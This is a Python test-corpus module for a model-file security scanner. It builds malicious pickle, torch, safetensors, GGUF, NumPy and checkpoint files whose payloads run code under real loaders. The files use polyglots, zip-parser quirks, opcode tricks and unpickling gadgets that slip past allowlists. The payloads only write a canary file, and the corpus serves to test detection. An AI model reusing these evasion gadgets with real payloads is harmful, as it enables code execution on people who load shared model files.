"""Files built where paramcount's reading once differed from a real loader's (issue 18): each one's payload runs under
the loader named in its ``oracle`` (checked in tests/test_differential.py), and each must be unsafe (exit 4).

* polyglots: a valid safetensors or GGUF file that is also a pickle from byte 0 (``torch.load`` of a ``.bin`` and
  ``pickle.load`` unpickle it);
* text arguments CPython accepts and ``pickletools`` refused (``I0x1``, ``I0o7``, ``I0b1``, ``L0x1L``, a NUL after a
  number), before a payload, in a plain pickle, a legacy stream, a zip's ``data.pkl`` and a DCP ``.metadata``;
* no-ops CPython allows (``BUILD (None, {})`` on an int or a dict, ``STOP`` over two values) in a legacy stream's
  first pickles, before the object pickle's payload;
* zips torch's reader opens that a stricter reading refused (a comment ending in a fake end-record signature, a
  directory longer than its end record says, bytes between the directory and the end record, an unused member whose
  local header differs, ``data.pkl`` spelled ``DATA.PKL``, a benign ``data.pkl`` beside a malicious ``data.PKL``, a
  deflated ``data.pkl`` whose stream gives more than its entry claims);
* NumPy object arrays spelled the ways numpy's parser reads (an escape for ``O``, ``'object'``, a header over
  64 KiB), in ``.npy`` and ``.npz``;
* gadgets through allowlisted functions (``_rebuild_from_type_v2`` calling ``torch`` + ``os.system`` or
  ``torch.utils.collect_env.run``), a state dict holding ``torch.os.system``, a ``BUILD`` that rewrites
  ``torch._utils`` (picklescan's ``sys_module_override_sploit``);
* the earliest ``torch.save`` format, a tar, with a payload in a member torch unpickles;
* a ``BUILD`` state that gives an instance a ``__setstate__``, ``extend`` or ``append`` of its own, which the
  unpickler then calls for the next ``BUILD`` or ``APPEND(S)``: a third-party function (untrusted when only held),
  or a ``functools.partial`` of one that writes the canary;
* a class resolved, then bytes neither unpickler reads: the class is imported before the loader fails;
* calls with no ``REDUCE`` of a global (a partial called, a class built by ``type`` whose ``__hash__`` runs as a dict
  key, an ``OrderedDict`` state or a rebuild's state that gives a ``__setstate__``), and the same in a valid
  safetensors file that is also a tar, in a legacy tar and in a DCP ``.metadata``;
* ``find_class`` imports before it fails: an empty name, a last line without its newline.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
from typing import TYPE_CHECKING

from tests.corpus import CANARY, Case
from tests.corpus.pickle_cases import GOOD, npy

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

MAGIC = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
PROTOCOL = b"\x80\x02M\xe9\x03."
SYS_INFO = b"\x80\x02}q\x00."


def payload(folder: Path) -> bytes:
    """``os.system("touch CANARY")``, protocol 0."""
    return b"cos\nsystem\n(S'touch " + str(folder / CANARY).encode() + b"'\ntR."


def _file(name: str, make: Callable[[Path], bytes]) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        (folder / name).write_bytes(make(folder))
        return str(folder / name)

    return build


def _zip(
    members: Callable[[Path], list[tuple[str, bytes]]],
    patch: Callable[[bytes], bytes] | None = None,
    name: str = "model.pt",
) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        import warnings

        buffer = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # duplicate names are the point of some cases
            with zipfile.ZipFile(buffer, "w") as archive:
                for member, data in members(folder):
                    archive.writestr(member, data)
        data = buffer.getvalue()
        (folder / name).write_bytes(patch(data) if patch else data)
        return str(folder / name)

    return build


def _torch_zip(
    data_pkl: Callable[[Path], bytes], *extra: tuple[str, bytes]
) -> Callable[[Path], list[tuple[str, bytes]]]:
    return lambda folder: [("archive/data.pkl", data_pkl(folder)), ("archive/version", b"3\n"), *extra]


# -- polyglots --------------------------------------------------------------------------------------------------------


def safetensors_polyglot(folder: Path) -> bytes:
    """A valid safetensors file whose header length, ``46 31 00 ...``, reads as ``F1`` then a NUL: C's FLOAT takes
    ``1`` and its line runs to the newline that ends the (whitespace-padded) JSON header; the payload is the tensor
    data after it."""
    body = b"0" + payload(folder)  # POP the float, then the payload
    header = json.dumps({"w": {"dtype": "U8", "shape": [len(body)], "data_offsets": [0, len(body)]}}).encode()
    length = 0x3146  # b"F1\0\0\0\0\0\0"
    header = header + b" " * (length - len(header) - 1) + b"\n"
    assert len(header) == length
    return struct.pack("<Q", length) + header + body


def gguf_polyglot(folder: Path) -> bytes:
    """A valid GGUF file: ``G`` (BINFLOAT) takes ``GUF``, the version and the tensor count's first byte; its second
    byte, ``I`` (0x49: 18,688 tensors), is an INT whose line starts with a NUL (C's strtol reads 0) and runs to the
    newline in the first metadata string; the payload follows it."""
    text = b"x\n0" + payload(folder)
    n = 0x4900
    out = b"GGUF" + struct.pack("<IQQ", 3, n, 1)
    out += struct.pack("<Q", 12) + b"general.name" + struct.pack("<IQ", 8, len(text)) + text
    for i in range(n):
        name = f"t{i}".encode()
        out += struct.pack("<Q", len(name)) + name + struct.pack("<IQIQ", 1, 1, 0, 32 * i)
    out += b"\0" * (-len(out) % 32)
    return out + b"\0" * (32 * n)


# -- text arguments CPython reads and pickletools did not -------------------------------------------------------------

TRICKS = {
    "hex-int": b"I0x1\n0",
    "octal-int": b"I0o7\n0",
    "binary-int": b"I0b1\n0",
    "hex-long": b"L0x1L\n0",
    "nul-after-int": b"I1\x00zz\n0",
    "nul-after-float": b"F1.5\x00zz\n0",
    "nul-after-put": b"Np1\x00zz\n0",
}


def _legacy(object_pickle: Callable[[Path], bytes], *, sys_info: bytes = SYS_INFO) -> Callable[[Path], bytes]:
    return lambda folder: MAGIC + PROTOCOL + sys_info + object_pickle(folder)


def _dcp(data: Callable[[Path], bytes]) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        checkpoint = folder / "ckpt"
        checkpoint.mkdir()
        (checkpoint / ".metadata").write_bytes(data(folder))
        return str(checkpoint)

    return build


def _trick(prefix: bytes) -> Callable[[Path], bytes]:
    return lambda folder: prefix + payload(folder)


# -- zips torch's reader opens ----------------------------------------------------------------------------------------


def _fake_end_in_comment(data: bytes) -> bytes:
    comment = b"x" * 30 + b"PK\x05\x06" + b"\0" * 10  # fewer than 22 bytes after it: miniz looks past it
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def _directory_longer(data: bytes) -> bytes:
    """The end record counts one entry fewer than the directory holds (miniz reads that many, zipfile all)."""
    at = data.rindex(b"PK\x05\x06")
    entries = struct.unpack_from("<H", data, at + 10)[0]
    return data[: at + 8] + struct.pack("<HH", entries - 1, entries - 1) + data[at + 12 :]


def _gap_before_end(data: bytes) -> bytes:
    at = data.rindex(b"PK\x05\x06")
    return data[:at] + b"\0" * 16 + data[at:]


def _deflated_beyond_entry(folder: Path) -> str:
    """A torch zip whose ``data.pkl`` is deflated and its entry claims fewer bytes than the stream gives: miniz fills
    a buffer of the claimed size and torch unpickles it, the payload before the cut (paramcount called it malformed
    until it read the stream as miniz does)."""
    pkl = payload(folder)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("archive/data.pkl"), pkl + b"}" * 64, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("archive/version", b"3\n")
    data = bytearray(buffer.getvalue())
    struct.pack_into("<I", data, 22, len(pkl))  # the local header's uncompressed size
    struct.pack_into("<I", data, data.index(b"PK\x01\x02") + 24, len(pkl))  # the directory's
    (folder / "model.pt").write_bytes(bytes(data))
    return str(folder / "model.pt")


def _unused_local_renamed(data: bytes) -> bytes:
    at = data.index(b"archive/unused")
    return data[:at] + b"archive/UNUSED" + data[at + 14 :]


# -- NumPy ------------------------------------------------------------------------------------------------------------


def _npy_header(descr: bytes, pad: int = 0) -> bytes:
    return b"{'descr': " + descr + b", 'fortran_order': False, 'shape': (1,), }" + b" " * pad


def _npy_v2(header: bytes, body: bytes) -> bytes:
    header += b" " * (-(12 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(header)) + header + body


def _npz(member: Callable[[Path], bytes]) -> Callable[[Path], str]:
    return _zip(lambda folder: [("w.npy", member(folder))], name="arrays.npz")


NUMPY = {
    "escaped-object": lambda f: npy(_npy_header(b"'\\x4f'"), b"\x80\x02" + payload(f)),
    # NumPy 2's StringDType is stored as a pickle too (the attacker review found it)
    "string-dtype": lambda f: npy(_npy_header(b"'T'"), b"\x80\x02" + payload(f)),
    "object-by-name": lambda f: npy(_npy_header(b"'object'"), b"\x80\x02" + payload(f)),
    "header-over-64k": lambda f: _npy_v2(_npy_header(b"'|O'", 70_000), b"\x80\x02" + payload(f)),
}


# -- gadgets ----------------------------------------------------------------------------------------------------------


def _rebuild_calling(func: bytes) -> Callable[[Path], bytes]:
    """``{"w": _rebuild_from_type_v2(func, torch.Tensor, ("touch CANARY",), None)}``, protocol 4."""

    def make(folder: Path) -> bytes:
        command = f"touch {folder / CANARY}".encode()
        return (
            b"\x80\x04}\x8c\x01w"
            + b"\x8c\x0dtorch._tensor\x8c\x15_rebuild_from_type_v2\x93"
            + b"("
            + func
            + b"\x8c\x05torch\x8c\x06Tensor\x93"
            + b"\x8c"
            + bytes([len(command)])
            + command
            + b"\x85Nt"
            + b"Rs."
        )

    return make


TORCH_OS_SYSTEM_GLOBAL = b"ctorch\nos.system\n"  # GLOBAL under protocol 4: a dotted name, found through torch.os
TORCH_OS_SYSTEM_STACK = b"\x8c\x05torch\x8c\tos.system\x93"
COLLECT_ENV_RUN = b"\x8c\x17torch.utils.collect_env\x8c\x03run\x93"


def _holding(func: bytes) -> Callable[[Path], bytes]:
    return lambda folder: b"\x80\x04}\x8c\x01w" + func + b"s."


def sys_module_override(folder: Path) -> bytes:
    """picklescan's ``sys_module_override_sploit.pkl``, rebuilt: ``BUILD`` sets ``torch._utils._rebuild_tensor`` to
    ``"builtins"``, then to ``"eval"``; ``STACK_GLOBAL`` of those two values is ``builtins.eval``."""
    code = f"__import__('os').system('touch {folder / CANARY}')".encode()
    return (
        b"\x80\x04Vtorch._utils\n\x94V_rebuild_tensor\n\x94\x93\x940Vtorch\nV_utils\n\x93\x940"
        b"h\x03}h\x01Vbuiltins\nsb0h\x00h\x01\x93h\x03}h\x01Veval\nsb0h\x00h\x01\x93\x93"
        b"\x8c" + bytes([len(code)]) + code + b"\x85R."
    )


# -- the tar format ---------------------------------------------------------------------------------------------------


def _tar(member: str, data: Callable[[Path], bytes]) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        path = folder / "model.pt"
        contents = {"storages": b"\x80\x02K\x00.\x80\x02].", "tensors": b"\x80\x02K\x00.", "pickle": b"\x80\x02}."}
        contents[member] = data(folder)
        with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
            for name in ("sys_info", "pickle", "storages", "tensors"):
                body = contents.get(name, b"\x80\x02}.")
                info = tarfile.TarInfo(name)
                info.size = len(body)
                archive.addfile(info, io.BytesIO(body))
        return str(path)

    return build


def _global(module: str, name: str) -> bytes:
    """``STACK_GLOBAL`` of ``module`` and ``name`` (protocol 4)."""
    return b"".join(b"\x8c" + bytes([len(part)]) + part.encode() for part in (module, name)) + b"\x93"


BERT_NAME = "transformers.models.bert.modeling_bert.BertModel"
BERT = _global(*BERT_NAME.rsplit(".", 1)) + b")\x81"  # an instance, by NEWOBJ
CACHED_FILE = _global("transformers.utils.hub", "cached_file")  # a third-party function


def _namespace_gadget(method: str, wrap: str) -> Callable[[Path], bytes]:
    """``{"w": tensor, "g": ...}`` where a ``Namespace`` whose attribute ``method`` is ``partial(numpy.savetxt,
    CANARY)`` is handed to torch code that calls that method by name: ``wrap`` ``"state"``, the state of
    ``_rebuild_parameter_with_state`` (``_set_obj_state`` calls ``state.items()``); ``"ordered"``, the argument of
    ``OrderedDict`` (which calls ``keys()``). An argparse ``Namespace`` is plain data; what it holds is not (the
    attacker review's finding)."""

    def make(folder: Path) -> bytes:
        import argparse
        import functools
        from collections import OrderedDict

        import numpy
        import torch

        from tests.crafted import Rebuild, dumps, tensor

        gadget = argparse.Namespace(**{method: functools.partial(numpy.savetxt, str(folder / CANARY))})
        rebuild = torch._utils._rebuild_parameter_with_state
        value = (
            Rebuild(rebuild, tensor("0", 4, (4,), (1,)), False, OrderedDict(), gadget)
            if wrap == "state"
            else Rebuild(OrderedDict, gadget)
        )
        return dumps({"w": tensor("0", 4, (4,), (1,)), "g": value})

    return make


class _NewObject:
    """Pickles as ``NEWOBJ`` of ``cls`` and a ``BUILD`` of ``state``, as ``torch.save(model)`` writes objects."""

    def __init__(self, cls: type, state: object) -> None:
        self.cls = cls
        self.state = state

    @property  # type: ignore[misc]
    def __class__(self) -> type:  # pickle checks NEWOBJ's class against the object's
        return self.cls

    def __reduce_ex__(self, protocol: object) -> tuple[object, ...]:
        import copyreg

        return copyreg.__newobj__, (self.cls,), self.state  # type: ignore[attr-defined]


def _setstate_unpickles(folder: Path) -> bytes:
    """An instance of torch's ``_DataPipeSerializationWrapper``, whose ``__setstate__`` is ``pickle.loads`` of its
    state: the payload is a second pickle, inside the state's bytes (the attacker review's finding)."""
    from torch.utils.data.datapipes.datapipe import _DataPipeSerializationWrapper

    from tests.crafted import dumps, tensor

    wrapper = _NewObject(_DataPipeSerializationWrapper, (payload(folder), False))
    return dumps({"w": tensor("0", 4, (4,), (1,)), "d": wrapper})


def _datapipe(folder: Path) -> object:
    """A torch ``MapperIterDataPipe`` whose state makes iterating it call ``numpy.savetxt(CANARY, ...)``: what runs
    when loading iterates it (``set(x)``), or tests a name against it (``name in self._parameters``)."""
    import numpy
    from torch.utils.data.datapipes.iter.callable import MapperIterDataPipe

    state = {"datapipe": [(str(folder / CANARY), [1.0])], "fn": numpy.savetxt, "input_col": [0, 1], "output_col": None}
    return _NewObject(MapperIterDataPipe, state)


def _iterated(folder: Path) -> bytes:
    """``set(datapipe)``: an allowlisted callable iterates an instance of a class the file chose."""
    from tests.crafted import Rebuild, dumps, tensor

    return dumps({"w": tensor("0", 4, (4,), (1,)), "g": Rebuild(set, _datapipe(folder))})


def _module_parameters(folder: Path) -> bytes:
    """An ``nn.Identity`` whose state's ``_parameters`` is a datapipe: ``Module.__setstate__`` sets its missing hook
    dicts through ``Module.__setattr__``, which tests each name against ``_parameters``."""
    import torch

    from tests.crafted import dumps, tensor

    module = _NewObject(torch.nn.Identity, {"training": True, "_parameters": _datapipe(folder)})
    return dumps({"w": tensor("0", 4, (4,), (1,)), "m": module})


def _appended(folder: Path) -> bytes:
    """``APPEND`` to a torch ``AppendingByteSerializer``, whose ``append`` calls the ``_serialize_fn`` of its
    state: the class's own method runs (protocol 4)."""
    serializer = (
        _global("torch.utils._appending_byte_serializer", "AppendingByteSerializer")
        + b")\x81}("
        + _text("_serialize_fn")
        + _global("numpy", "savetxt")
        + _text("_writer")
        + _text(str(folder / CANARY))
        + b"ub]]G?\xf0\x00\x00\x00\x00\x00\x00aaa"
    )
    return b"\x80\x04}(" + _text("s") + serializer + b"u."


def _metaclass(folder: Path) -> bytes:
    """``NEWOBJ`` of torch's ``_DataPipeMeta`` builds a class whose ``__setstate__`` is a partial of
    ``numpy.savetxt``, which a ``BUILD`` on the class then calls (protocol 4)."""
    partial = _global("functools", "partial") + _global("numpy", "savetxt") + _text(str(folder / CANARY)) + b"\x86R"
    namespace = b"}" + _text("__setstate__") + partial + b"s"
    cls = _global("torch.utils.data.datapipes._typing", "_DataPipeMeta") + _text("X") + b")" + namespace + b"\x87\x81"
    return b"\x80\x04}(" + _text("g") + cls + b"]]G?\xf0\x00\x00\x00\x00\x00\x00aab" + b"u."


def _hashed_deep(folder: Path) -> bytes:
    """``{((symint,),): 1}``: a ``torch.SymInt`` whose ``node`` is a ``Namespace`` with ``is_nested_int`` set to
    ``partial(numpy.savetxt, CANARY)``, two tuples deep in a dict key. Hashing the key hashes the SymInt, whose
    ``__hash__`` calls ``self.node.is_nested_int()`` (the fourth attacker review)."""
    namespace = (
        _global("argparse", "Namespace")
        + b")\x81}"
        + _text("is_nested_int")
        + _global("functools", "partial")
        + _global("numpy", "savetxt")
        + _text(str(folder / CANARY))
        + b"\x86Rsb"
    )
    symint = _global("torch", "SymInt") + b")\x81}" + _text("node") + namespace + b"sb"
    return b"\x80\x04}(" + _text("k") + b"}" + symint + b"\x85\x85K\x01su."


def _python_build_with_namespace_state(folder: Path) -> bytes:
    """``BUILD`` of an instance with a ``Namespace`` as its state: the pure-Python unpickler calls
    ``state.items()``, which its ``items`` attribute answers (the C unpickler wants a dict)."""
    import argparse
    import functools

    import numpy

    gadget = argparse.Namespace(items=functools.partial(numpy.savetxt, str(folder / CANARY)))
    from tests.crafted import dumps

    return dumps(_NewObject(argparse.Namespace, gadget))


def _instance_method(name: bytes, trigger: bytes, held: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    """An instance whose ``BUILD`` state sets ``name`` to what ``held`` holds; ``trigger`` then makes the
    unpickler look ``name`` up on the instance and call it (protocol 4)."""
    return lambda folder: (
        b"\x80\x04" + BERT + b"}\x8c" + bytes([len(name)]) + name + held(folder) + b"sb" + trigger + b"."
    )


def _savetxt_canary(folder: Path) -> bytes:
    """``functools.partial(numpy.savetxt, CANARY)``: calling it with anything writes the canary."""
    path = str(folder / CANARY).encode()
    partial = _global("functools", "partial") + _global("numpy", "savetxt")
    return partial + b"\x8c" + bytes([len(path)]) + path + b"\x86R"


def _text(value: str) -> bytes:
    """``SHORT_BINUNICODE`` (or ``BINUNICODE`` when longer) of ``value``."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def _hash_gadget(folder: Path) -> bytes:
    """``{X(): 1}`` where ``X = type("X", (), {"__hash__": partial(numpy.savetxt, CANARY)})``: no REDUCE at all,
    hashing the key calls the partial (the attacker review found it)."""
    partial = _global("functools", "partial") + _global("numpy", "savetxt") + _text(str(folder / CANARY)) + b"\x86\x81"
    cls = _global("builtins", "type") + _text("X") + b")}" + _text("__hash__") + partial + b"s\x87\x81"
    return b"\x80\x04}" + cls + b")\x81K\x01s."


def _partial_called(folder: Path) -> bytes:
    """``partial(numpy.savetxt, CANARY)([[1.0]])``: REDUCE of an object loading made."""
    partial = _global("functools", "partial") + _global("numpy", "savetxt") + _text(str(folder / CANARY)) + b"\x86R"
    return b"\x80\x04}" + _text("w") + partial + b"]]G?\xf0\x00\x00\x00\x00\x00\x00aa\x85Rs."


def _ordered_dict_state(folder: Path) -> bytes:
    """An ``OrderedDict`` given, by a ``BUILD`` state that is itself an ``OrderedDict``, a ``__setstate__`` that the
    next ``BUILD`` calls (CPython copies any dict subclass into the instance)."""
    partial = _global("functools", "partial") + _global("numpy", "savetxt") + _text(str(folder / CANARY)) + b"\x86R"
    ordered = _global("collections", "OrderedDict")
    state = ordered + b")R" + _text("__setstate__") + partial + b"s"
    return b"\x80\x04" + ordered + b")R" + state + b"b]]G?\xf0\x00\x00\x00\x00\x00\x00aab."


def _rebuild_state(folder: Path) -> bytes:
    """``_rebuild_from_type_v2`` sets its state's items on the tensor it returns (``_set_obj_state``), so a
    ``__setstate__`` among them is what a following ``BUILD`` calls, even a ``BUILD`` of ``None``."""
    partial = _global("functools", "partial") + _global("numpy", "savetxt") + _text(str(folder / CANARY)) + b"\x86R"
    meta = (
        _global("torch._utils", "_rebuild_meta_tensor_no_storage")
        + _global("torch", "Tensor")
        + b"("
        + _global("torch", "float32")
        + b"K\x01\x85K\x01\x85\x89t}"
        + _text("__setstate__")
        + partial
        + b"s"
    )
    return b"\x80\x04}" + _text("w") + _global("torch._tensor", "_rebuild_from_type_v2") + b"(" + meta + b"tRNbs."


def _safetensors_tar(pickle_member: Callable[[Path], bytes]) -> Callable[[Path], str]:
    """A valid safetensors file whose first 512 bytes are also a valid tar header (the octal fields written inside
    a ``__metadata__`` string), its tensor data the tar's members: ``torch.load`` opens it as the earliest format's
    tar and unpickles its ``pickle`` member (the attacker review built it)."""

    def build(folder: Path) -> str:
        tail = b""
        members = {
            "storages": b"\x80\x02K\x00.\x80\x02].",
            "tensors": b"\x80\x02K\x00.",
            "pickle": pickle_member(folder),
        }
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tail += info.tobuf(format=tarfile.USTAR_FORMAT) + body + b"\0" * (-len(body) % 512)
        tail += b"\0" * 1024
        length = 1016

        def header(pad: str) -> bytes:
            tensor = {"dtype": "U8", "shape": [len(tail)], "data_offsets": [0, len(tail)]}
            return json.dumps({"t": tensor, "__metadata__": {"p": pad}}, separators=(",", ":")).encode()

        start = 8 + len(header("")) - 3  # where the padding string's content begins
        content = bytearray(b"A" * (length - len(header(""))))
        fields = {100: b"0000644 ", 108: b"0000000 ", 116: b"0000000 ", 124: b"00000001000 ", 136: b"00000000000 "}
        fields |= {148: b"        ", 156: b"0", 329: b"0000000 0000000 "}
        for at, value in fields.items():
            content[at - start : at - start + len(value)] = value
        data = bytearray(struct.pack("<Q", length) + header(content.decode()))
        data[148:156] = b"%07o " % sum(data[:512])
        path = folder / "model.bin"  # torch 2.13 loads a .safetensors name with safetensors itself
        path.write_bytes(bytes(data) + tail)
        return str(path)

    return build


def cases() -> list[Case]:
    found: list[Case] = []

    def add(name: str, build: Callable[[Path], str], oracle: tuple[str, ...]) -> None:
        found.append(Case(f"loader-{name}", "loader", build, 4, malicious=True, oracle=oracle))

    add("safetensors-polyglot-bin", _file("model.bin", safetensors_polyglot), ("pickle", "os.system"))
    add("safetensors-polyglot", _file("model.safetensors", safetensors_polyglot), ("pickle", "os.system"))
    add("gguf-polyglot", _file("model.gguf", gguf_polyglot), ("pickle", "os.system"))
    add("gguf-polyglot-bin", _file("model.bin", gguf_polyglot), ("torch", "os.system"))
    for trick, prefix in TRICKS.items():
        add(f"{trick}-pickle", _file("model.pkl", _trick(prefix)), ("pickle", "os.system"))
        add(f"{trick}-legacy", _file("model.pt", _legacy(_trick(prefix))), ("torch", "os.system"))
        add(f"{trick}-zip", _zip(_torch_zip(_trick(prefix))), ("torch", "os.system"))
        add(f"{trick}-dcp", _dcp(_trick(prefix)), ("pickle", "os.system"))
    for name, noop in {
        "build-none-on-int": b"\x80\x02K\x01N}\x86b.",
        "build-none-on-dict": b"\x80\x02}N}\x86b.",
        "stop-over-two-values": b"\x80\x02K\x01K\x02.",
    }.items():
        add(f"legacy-{name}", _file("model.pt", _legacy(payload, sys_info=noop)), ("torch", "os.system"))
    good = ("archive/data/0", bytes(16))
    add("zip-fake-end-in-comment", _zip(_torch_zip(payload, good), _fake_end_in_comment), ("torch", "os.system"))
    add("zip-directory-longer", _zip(_torch_zip(payload, good), _directory_longer), ("torch", "os.system"))
    add("zip-gap-before-end", _zip(_torch_zip(payload, good), _gap_before_end), ("torch", "os.system"))
    add(
        "zip-unused-local-renamed",
        _zip(_torch_zip(payload, good, ("archive/unused", b"x")), _unused_local_renamed),
        ("torch", "os.system"),
    )
    add("zip-deflated-beyond-entry", _deflated_beyond_entry, ("torch", "os.system"))
    add(
        "zip-upper-case-only",
        _zip(lambda f: [("archive/DATA.PKL", payload(f)), ("archive/version", b"3\n")]),
        ("torch", "os.system"),
    )
    add(
        "zip-upper-case-beside-benign",
        _zip(
            lambda f: [
                # in this order miniz's heap sort puts data.PKL where its binary search meets it first
                ("archive/data.pkl", GOOD),
                ("archive/data.PKL", payload(f)),
                ("archive/data/0", bytes(16)),
                ("archive/version", b"3\n"),
            ]
        ),
        ("torch", "os.system"),
    )
    for name, make in NUMPY.items():
        add(f"npy-{name}", _file("array.npy", make), ("numpy", "os.system"))
        add(f"npz-{name}", _npz(make), ("numpy", "os.system"))
    add(
        "rebuild-calls-torch-os-system",
        _zip(_torch_zip(_rebuild_calling(TORCH_OS_SYSTEM_GLOBAL))),
        ("torch", "torch.os.system"),
    )
    add(
        "rebuild-calls-stack-global",
        _zip(_torch_zip(_rebuild_calling(TORCH_OS_SYSTEM_STACK))),
        ("torch", "torch.os.system"),
    )
    add(
        "rebuild-calls-collect-env-run",
        _zip(_torch_zip(_rebuild_calling(COLLECT_ENV_RUN))),
        ("torch", "torch.utils.collect_env.run"),
    )
    add(
        "state-dict-holds-torch-os-system",
        _zip(_torch_zip(_holding(TORCH_OS_SYSTEM_STACK))),
        ("torch", "torch.os.system"),
    )
    add("sys-module-override", _file("model.pkl", sys_module_override), ("pickle", "torch._utils"))
    # A BUILD state gives the instance an attribute the unpickler then looks up and calls (issue 18's whole-model
    # sweep): __setstate__ for a second BUILD, extend for APPENDS, append for APPEND, add for ADDITEMS.
    # (C's APPEND calls extend when the object has one, as the stand-in class has: Python's calls append.)
    xs = b"\x8c\x01x"
    methods: tuple[tuple[bytes, bytes, str], ...] = (
        (b"__setstate__", xs + b"b", "pickle"),
        (b"extend", b"(" + xs + b"e", "pickle"),
        (b"append", xs + b"a", "pickle-python"),
    )
    for method, trigger, loader in methods:
        label = method.decode().strip("_")
        if loader == "pickle":
            add(
                f"instance-{label}-calls-held-function",
                _zip(_torch_zip(_instance_method(method, trigger, lambda _: CACHED_FILE))),
                ("torch", "transformers.utils.hub.cached_file", "called"),
            )
        add(
            f"instance-{label}-calls-partial",
            _file("model.pkl", _instance_method(method, trigger, _savetxt_canary)),
            (loader, "numpy.savetxt", "called"),
        )
    # A class resolved, then a string neither unpickler decodes: the loader imports the class before it fails, and
    # the pickle cannot be counted (the pickle-oracle fuzz target found it).
    broken = BERT + b"\x8c\x02\xff\xfe."
    add("class-then-malformed-pickle", _file("model.pkl", lambda _: b"\x80\x04" + broken), ("pickle", BERT_NAME))
    add("class-then-malformed-zip", _zip(_torch_zip(lambda _: b"\x80\x04" + broken)), ("torch", BERT_NAME))
    # The attacker review's calls the evaluator did not see, and the readings whose imports it dropped: each makes
    # a real loader call numpy.savetxt onto the canary.
    savetxt = ("torch", "numpy.savetxt", "called")
    add("hash-of-a-class-made-by-type", _zip(_torch_zip(_hash_gadget)), savetxt)
    add("partial-called-by-reduce", _zip(_torch_zip(_partial_called)), savetxt)
    add("ordered-dict-state-gives-setstate", _zip(_torch_zip(_ordered_dict_state)), savetxt)
    add("rebuild-state-gives-setstate", _zip(_torch_zip(_rebuild_state)), savetxt)
    add("safetensors-that-is-a-tar", _safetensors_tar(_hash_gadget), savetxt)
    add("tar-hash-gadget", _tar("pickle", _hash_gadget), savetxt)
    add("dcp-hash-gadget", _dcp(_hash_gadget), ("pickle", "numpy.savetxt", "called"))
    # The pure-Python unpickler's find_class imports the module before it looks the name up: an empty name, or a
    # last line without its newline, less its last byte, still imports (the pickle-oracle fuzz target found it;
    # the C unpickler refuses both lines first).
    add(
        "global-with-an-empty-name",
        _file("model.pkl", lambda _: b"\x80\x02cantigravity\n\n."),
        ("pickle-python", "antigravity."),
    )
    add(
        "global-at-the-end-without-newline",
        _file("model.pkl", lambda _: b"\x80\x02cos\nsystem"),
        ("pickle-python", "os.syste"),
    )
    # Methods loading code calls by name on a value the file chose, answered by an attribute a BUILD state set;
    # a __setstate__ that unpickles its state (the second attacker review's findings)
    tensor_record = ("archive/data/0", bytes(16))
    gadgets = (("items-in-rebuild-state", "items", "state"), ("keys-into-ordered-dict", "keys", "ordered"))
    for label, attribute, wrap in gadgets:
        add(f"namespace-{label}", _zip(_torch_zip(_namespace_gadget(attribute, wrap), tensor_record)), savetxt)
    add(
        "namespace-state-of-python-build",
        _file("model.pkl", _python_build_with_namespace_state),
        ("pickle-python", "numpy.savetxt", "called"),
    )
    add(
        "setstate-unpickles-its-state",
        _zip(_torch_zip(_setstate_unpickles, tensor_record)),
        ("torch", "os.system", "called"),
    )
    # A FRAME claiming more than the file holds: the C unpickler stops, the pure-Python one reads the rest as the
    # frame and runs it (the pickle-oracle fuzz target found it)
    add(
        "frame-longer-than-the-file",
        _file("model.pkl", lambda f: b"\x80\x04\x95" + struct.pack("<Q", len(payload(f)) + 1000) + payload(f)),
        ("pickle-python", "os.system", "called"),
    )
    # Classes the file chose whose own code loading runs (the third attacker review): iterated by an allowlisted
    # callable, tested against by Module.__setattr__, appended to, instantiated as a metaclass
    add("datapipe-iterated-by-set", _zip(_torch_zip(_iterated, tensor_record)), savetxt)
    add("datapipe-as-module-parameters", _zip(_torch_zip(_module_parameters, tensor_record)), savetxt)
    add("instance-append-runs-its-class", _zip(_torch_zip(_appended)), savetxt)
    add("metaclass-builds-a-class", _zip(_torch_zip(_metaclass)), savetxt)
    add("instance-hashed-deep-in-a-key", _zip(_torch_zip(_hashed_deep)), savetxt)
    # INST without a MARK: the pure-Python unpickler imports before it looks for the MARK (pickle-oracle finding)
    inst = _file("model.pkl", lambda _: b"\x80\x02K\x01ios\nsystem\n.")
    add("inst-without-mark", inst, ("pickle-python", "os.system"))
    # A module line that ends a FRAME longer than the file: the pure-Python unpickler reads the name from the file's
    # end, b"", and imports the module (the pickle-oracle fuzz target found it)
    add(
        "global-ending-a-short-frame",
        _file("model.pkl", lambda _: b"\x80\x04\x95" + struct.pack("<Q", 100) + b"cantigravity\n"),
        ("pickle-python", "antigravity."),
    )
    add("tar-pickle-member", _tar("pickle", payload), ("torch", "os.system"))
    add("tar-storages-member", _tar("storages", payload), ("torch", "os.system"))
    return found
